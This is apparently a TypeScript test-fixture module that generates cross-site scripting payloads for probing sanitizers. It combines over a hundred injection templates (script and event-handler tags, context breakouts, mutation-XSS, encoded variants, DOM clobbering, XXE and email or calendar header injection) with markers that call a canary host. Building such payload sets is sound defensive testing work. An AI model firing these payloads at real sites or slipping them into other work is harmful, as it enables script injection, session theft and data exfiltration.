/** A host without an address: a request proves execution. */
export const CANARY = "canary.example";

/** Visible when executed: watched call, dialog, request. */
const CODES = (id: number): readonly string[] => [
  `__xss(${id})`,
  `alert(${id})`,
  `top.__xss(${id})`,
  `fetch('https://${CANARY}/${id}')`,
  `import('https://${CANARY}/${id}.js')`,
  `new Image().src='//${CANARY}/${id}'`,
];

/** CODE is executed, HOST requested. */
const TEMPLATES: readonly string[] = [
  ...["<script>CODE</script>", "<ScRiPt >CODE</sCrIpT >", "<script src=//HOST/x.js></script>"],
  ...["<script type=module>CODE</script>", "<scr<script>ipt>CODE</scr</script>ipt>", "<script\\x20>CODE</script>"],
  ...["<script/x>CODE</script>", "<img src=x onerror=CODE>", '<img src=x onerror="CODE">'],
  ...["<img/src=`x`/onerror=CODE>", "<IMG SRC=x ONERROR=CODE//", "<image src=x onerror=CODE>", "<svg onload=CODE>"],
  ...["<svg/onload=CODE//", "<svg><script>CODE</script></svg>", "<svg><script xlink:href=//HOST/x.js /></svg>"],
  ...["<svg><animate onbegin=CODE attributeName=x dur=1s>", "<svg><set onbegin=CODE attributeName=x>"],
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=CODE /></svg>#x'>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.CODE</script>'></iframe></foreignObject></svg>",
  ...["<svg><a xlink:href=javascript:CODE><text y=20>x</text></a></svg>", "<body onload=CODE>"],
  ...["<body onpageshow=CODE>", "<details open ontoggle=CODE><summary>x</summary></details>"],
  ...["<input autofocus onfocus=CODE>", "<select autofocus onfocus=CODE></select>"],
  ...["<textarea autofocus onfocus=CODE></textarea>", "<video><source onerror=CODE></video>"],
  ...["<audio src=x onerror=CODE></audio>", "<video poster=//HOST/p onloadstart=CODE src=x></video>"],
  "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=CODE>x</b>",
  ...["<marquee onstart=CODE>x</marquee>", "<iframe src=javascript:CODE></iframe>"],
  "<iframe srcdoc='<script>parent.CODE</script>'></iframe>",
  "<iframe src='data:text/html,<script>parent.CODE</script>'></iframe>",
  ...["<object data=javascript:CODE></object>", "<object data='data:text/html,<script>CODE</script>'></object>"],
  ...["<embed src=//HOST/x.swf>", "<embed src=javascript:CODE>", "<link rel=stylesheet href=//HOST/x.css>"],
  ...["<link rel=preload as=script href=//HOST/x.js>", "<meta http-equiv=refresh content='0;url=https://HOST/'>"],
  ...["<meta http-equiv=refresh content='0;url=javascript:CODE'>", "<base href=https://HOST/>"],
  "<form action=https://HOST/><input type=submit autofocus></form>",
  ...["<button formaction=javascript:CODE autofocus>x</button>", "<a href=javascript:CODE>x</a>"],
  ...["<a href='java\tscript:CODE'>x</a>", "<math href=javascript:CODE>x</math>"],
  ...["<portal src=https://HOST/></portal>", "<dialog open onclose=CODE><form method=dialog></form></dialog>"],
  "<div popover onbeforetoggle=CODE id=p></div><button popovertarget=p autofocus>x</button>",
  "<xss contenteditable autofocus onfocus=CODE tabindex=1>x</xss>",
  "<template shadowrootmode=open><script>CODE</script></template>",
  // They break out of their context.
  ...['"><script>CODE</script>', "'><script>CODE</script>", '" autofocus onfocus=CODE x="'],
  ...["' autofocus onfocus=CODE x='", '" onmouseover=CODE style="position:fixed;inset:0'],
  ...["</script><script>CODE</script>", "</script ><svg onload=CODE>"],
  ...["<!--<script></script><script>CODE</script>-->", "--><script>CODE</script>", "]]><script>CODE</script>"],
  ...["?><script>CODE</script>", "</textarea><script>CODE</script>", "</title><script>CODE</script>"],
  ...["</style><script>CODE</script>", "</noscript><script>CODE</script>", "</template><img src=x onerror=CODE>"],
  ...["</select><img src=x onerror=CODE>", "</option></select></form><img src=x onerror=CODE>"],
  ...["</svg><img src=x onerror=CODE>", "<noscript><p title='</noscript><img src=x onerror=CODE>'>"],
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=CODE&gt;'>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=CODE src>'>",
  "<svg></p><style><a id='</style><img src=1 onerror=CODE>'>",
  ...["';CODE;//", '";CODE;//', "\\';CODE;//", '\\";CODE;//', "`;CODE;//", "\x24{CODE}", "'-CODE-'"],
  ...["\u2028CODE\u2029", '"}]};CODE;//', "\\u003c/script>\\u003cscript>CODE\\u003c/script>"],
  ...["</script/><script>CODE</script>", "{{constructor.constructor('CODE')()}}", "<%= CODE %>#{CODE}", "*/CODE/*"],
  "\r\nCODE\r\n",
  ...["javascript:CODE", "JaVaScRiPt:CODE", " javascript:CODE", "\u0001javascript:CODE", "java\nscript:CODE"],
  ...["javascript&colon;CODE", "javascript://%0aCODE", "data:text/html,<script>CODE</script>", "vbscript:CODE"],
  ...['https://HOST/"onerror="CODE', "//HOST/x.js", "/\\HOST/x.js", "https://HOST/?<script>CODE</script>"],
  // Encoded, for code with one decoding too many.
  ...["&lt;script&gt;CODE&lt;/script&gt;", "&amp;lt;script&amp;gt;CODE&amp;lt;/script&amp;gt;"],
  ...["&#60;script&#62;CODE&#60;/script&#62;", "%3Cscript%3ECODE%3C/script%3E"],
  ...["%253Cscript%253ECODE%253C/script%253E", "\\x3cscript\\x3eCODE\\x3c/script\\x3e"],
  ...["+ADw-script+AD4-CODE+ADw-/script+AD4-", "\uff1cscript\uff1eCODE\uff1c/script\uff1e"],
  ...["<\u0000script>CODE</script>", "<scrıpt>CODE</scrıpt>", "\u202e<script>CODE</script>"],
  // Styles, and DOM names read by scripts.
  ...["<style>@import '//HOST/x.css';</style>", "x;background:url(//HOST/x)"],
  ...["<b style=\"background:url('//HOST/x')\">x</b>", "expression(CODE)"],
  "<a id=__remixContext></a><a id=__remixManifest href=//HOST/x.js></a>",
  "<form name=body><input name=appendChild></form>",
  ...["<img name=getElementById><img name=currentScript src=//HOST/x>", "__proto__"],
  "]]></content><x:script xmlns:x='http://www.w3.org/1999/xhtml'>CODE</x:script>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>CODE</x:script>",
  ...["<?xml-stylesheet href='javascript:CODE'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'https://HOST/'>]>&y;"],
  "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:https://HOST/\r\nX-EVIL:1",
  ...["\r\nBcc: evil@HOST\r\n\r\n<script>CODE</script>", "<plaintext>", "<!--"],
];

/** Swallows all text after it. */
const isLast = (template: string) => /^<(?:plaintext|!--)/.test(template);

export const payloads = (count: number): string[] =>
  Array.from({ length: count }, (_, index) => {
    const codes = CODES(index);
    const template = TEMPLATES[index % TEMPLATES.length]!;
    const code = codes[(index + Math.floor(index / TEMPLATES.length)) % codes.length]!;
    return template.replaceAll("CODE", code).replaceAll("HOST", CANARY);
  });

/** With at most `maxSize` payloads, swallowing ones last. */
export function bundles(count: number, maxSize: number): string[] {
  const all = payloads(count);
  const size = Math.ceil(count / maxSize);
  // Far apart in the list, to mix the kinds.
  return Array.from({ length: size }, (_, index) =>
    all
      .filter((_payload, place) => place % size === index)
      .sort((a, b) => Number(isLast(a)) - Number(isLast(b)))
      .join(" "),
  );
}
